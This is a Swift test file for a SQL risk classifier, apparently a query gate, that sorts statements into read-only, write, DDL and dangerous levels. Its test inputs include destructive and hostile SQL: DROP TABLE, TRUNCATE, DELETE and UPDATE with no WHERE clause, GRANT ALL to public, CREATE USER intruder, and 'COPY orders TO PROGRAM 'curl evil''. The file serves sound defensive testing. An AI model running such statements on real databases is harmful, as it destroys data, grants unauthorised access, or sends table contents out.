import QueryGateCore
import Testing

@Suite("Risk analysis")
struct RiskAnalysisTests {
    @Test("Each statement kind gets its level", arguments: [
        ("SELECT * FROM customers WHERE id = 1", RiskAssessment.Level.readOnly),
        ("with recent as (select * from orders) select count(*) from recent", .readOnly),
        ("EXPLAIN SELECT 1", .readOnly),
        ("SHOW statement_timeout", .readOnly),
        ("INSERT INTO t VALUES (1)", .write),
        ("UPDATE customers SET phone = NULL WHERE id = 3", .write),
        ("WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone", .write),
        ("CREATE INDEX ON orders (placed_at)", .ddl),
        ("SELECT * INTO backup FROM orders", .ddl),
        ("DELETE FROM orders", .dangerous),
        ("update customers set phone = null", .dangerous),
        ("DROP TABLE orders", .dangerous),
        ("TRUNCATE orders", .dangerous),
        ("ALTER TABLE orders ADD COLUMN x int", .dangerous),
        ("GRANT ALL ON orders TO public", .dangerous),
        ("CREATE USER intruder", .dangerous),
        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", .dangerous),
        ("COPY orders TO PROGRAM 'curl evil'", .dangerous),
        ("EXPLAIN ANALYZE DELETE FROM orders", .dangerous),
        ("FROBNICATE everything", .write),
        ("SELECT nextval('s')", .write),
    ])
    func levels(sql: String, level: RiskAssessment.Level) {
        #expect(RiskAnalysis.assess(sql: sql).level == level, "\(sql)")
    }

    @Test func wordsInsideStringsAndCommentsDoNotCount() {
        let sql = "SELECT 'DROP TABLE orders; DELETE FROM x' AS text, \"delete\" FROM t -- DROP everything\n/* TRUNCATE */ WHERE a = $$GRANT$$"
        #expect(RiskAnalysis.assess(sql: sql) == RiskAssessment(level: .readOnly, warnings: []))
    }

    @Test func aScriptTakesItsWorstStatementAndNamesWhereEachWarningIs() {
        let assessment = RiskAnalysis.assess(sql: "SELECT 1; UPDATE t SET a = 1 WHERE b = 2; DELETE FROM t;")
        #expect(assessment.level == .dangerous)
        #expect(assessment.warnings == ["statement 3: DELETE without WHERE changes every row of the table"])
    }

    @Test func transactionControlInsideARequestIsDangerous() {
        #expect(RiskAnalysis.assess(sql: "UPDATE t SET a = 1 WHERE b; COMMIT; UPDATE t SET a = 2 WHERE b").level == .dangerous)
    }

    @Test func nothingRecognisableIsAWrite() {
        #expect(RiskAnalysis.assess(sql: "-- only a comment").level == .write)
    }
}
